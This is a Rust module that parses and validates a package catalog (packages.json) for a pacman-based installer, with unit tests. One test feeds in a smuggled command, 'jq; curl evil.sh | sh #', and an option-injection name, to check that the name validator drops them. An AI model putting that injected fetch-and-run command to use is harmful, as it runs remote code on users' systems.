//! Package catalog: common packages plus optional per-profile packages.
//!
//! The catalog lives as `packages.json` in a GitLab repository and is read
//! through the repository-files API, which wraps the file in base64.

use std::{
    collections::{BTreeMap, HashSet},
    fs,
    path::Path,
};

use anyhow::{Context, Result};
use log::{debug, warn};
use serde::Deserialize;

use crate::tui::{ChoiceItem, ChoiceList};

mod fetch;

pub use fetch::{check_connectivity, fetch_catalog};

/// One installable package.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
pub struct Package {
    pub name: String,
    #[serde(default)]
    pub description: String,
}

/// Decoded `packages.json`.
///
/// ```json
/// {"common": [{"name": "duf", "description": "fancy disk usage"}],
///  "profiles": {"dev": [{"name": "gitleaks", "description": "detects secrets"}]}}
/// ```
#[derive(Debug, Clone, Default, Deserialize)]
pub struct Catalog {
    #[serde(default)]
    pub common: Vec<Package>,
    #[serde(default)]
    pub profiles: BTreeMap<String, Vec<Package>>,
}

impl Package {
    /// Package names as pacman accepts them, never starting with `-`.
    fn has_valid_name(&self) -> bool {
        !self.name.starts_with('-')
            && !self.name.is_empty()
            && self
                .name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '@' | '.' | '_' | '+' | '-'))
    }
}

fn retain_valid(packages: &mut Vec<Package>) {
    packages.retain(|package| {
        let valid = package.has_valid_name();
        if !valid {
            warn!("ignoring catalog entry with invalid package name '{}'", package.name);
        }
        valid
    });
}

impl Catalog {
    /// Parses `packages.json`. Entries whose name is not a valid package
    /// name are dropped.
    pub fn parse(json: &str) -> Result<Self> {
        let mut catalog: Self =
            serde_json::from_str(json).context("Unable to parse the packages catalog")?;

        retain_valid(&mut catalog.common);
        catalog.profiles.values_mut().for_each(retain_valid);

        debug!(
            "catalog: {} common packages, {} profiles",
            catalog.common.len(),
            catalog.profiles.len()
        );

        Ok(catalog)
    }

    /// Reads a plain (not base64-wrapped) catalog from disk.
    pub fn from_file(path: &Path) -> Result<Self> {
        let json = fs::read_to_string(path)
            .with_context(|| format!("Unable to read {}", path.display()))?;
        Self::parse(&json)
    }

    /// Profile names, sorted.
    #[must_use]
    pub fn profile_choices(&self) -> ChoiceList {
        ChoiceList::from_labels(self.profiles.keys().cloned())
    }

    /// Packages offered for the chosen profiles: the common packages first,
    /// then each profile's packages in the order the profiles were given.
    ///
    /// A package listed several times is offered once, at its first position.
    #[must_use]
    pub fn package_choices(&self, profiles: &[String]) -> ChoiceList {
        let mut seen = HashSet::new();
        let mut items = Vec::new();

        let chosen = profiles.iter().filter_map(|profile| {
            let packages = self.profiles.get(profile);
            if packages.is_none() {
                warn!("unknown profile {profile}, ignoring");
            }
            packages
        });

        for package in self.common.iter().chain(chosen.flatten()) {
            if seen.insert(package.name.as_str()) {
                items.push(
                    ChoiceItem::new(package.name.clone()).with_description(&package.description),
                );
            }
        }

        ChoiceList::new(items)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SAMPLE: &str = r#"{
        "common": [
            {"name": "duf", "description": "fancy disk usage"},
            {"name": "jq", "description": "json processor"}
        ],
        "profiles": {
            "devops": [
                {"name": "ansible", "description": "automation"},
                {"name": "jq", "description": "json processor"}
            ],
            "dev": [{"name": "gitleaks", "description": "detects secrets"}]
        }
    }"#;

    fn labels(list: &ChoiceList) -> Vec<&str> {
        list.iter().map(|item| item.label.as_str()).collect()
    }

    #[test]
    fn test_profiles_are_sorted() {
        let catalog = Catalog::parse(SAMPLE).unwrap();
        assert_eq!(labels(&catalog.profile_choices()), vec!["dev", "devops"]);
    }

    #[test]
    fn test_common_packages_only_without_profiles() {
        let catalog = Catalog::parse(SAMPLE).unwrap();
        let choices = catalog.package_choices(&[]);
        assert_eq!(labels(&choices), vec!["duf", "jq"]);
        assert_eq!(choices.get(0).unwrap().description, "fancy disk usage");
    }

    #[test]
    fn test_profile_packages_follow_common_without_duplicates() {
        let catalog = Catalog::parse(SAMPLE).unwrap();
        let choices = catalog.package_choices(&["devops".to_string(), "dev".to_string()]);
        assert_eq!(labels(&choices), vec!["duf", "jq", "ansible", "gitleaks"]);
    }

    #[test]
    fn test_unknown_profile_is_ignored() {
        let catalog = Catalog::parse(SAMPLE).unwrap();
        let choices = catalog.package_choices(&["qa".to_string()]);
        assert_eq!(labels(&choices), vec!["duf", "jq"]);
    }

    #[test]
    fn test_missing_sections_default_to_empty() {
        let catalog = Catalog::parse(r#"{"common": [{"name": "wget"}]}"#).unwrap();
        assert!(catalog.profiles.is_empty());
        assert!(catalog.common[0].description.is_empty());
    }

    #[test]
    fn test_invalid_package_names_are_dropped() {
        let catalog = Catalog::parse(
            r#"{
                "common": [{"name": "jq; curl evil.sh | sh #"}, {"name": "jq"}],
                "profiles": {"dev": [{"name": "--overwrite"}, {"name": "lib32-gcc-libs"}]}
            }"#,
        )
        .unwrap();

        assert_eq!(labels(&catalog.package_choices(&["dev".to_string()])), vec!["jq", "lib32-gcc-libs"]);
    }

    #[test]
    fn test_invalid_json_is_an_error() {
        assert!(Catalog::parse("{not json").is_err());
    }

    #[test]
    fn test_from_file() {
        let temp_dir = tempfile::tempdir().unwrap();
        let path = temp_dir.path().join("packages.json");
        fs::write(&path, SAMPLE).unwrap();

        let catalog = Catalog::from_file(&path).unwrap();
        assert_eq!(catalog.common.len(), 2);
    }
}
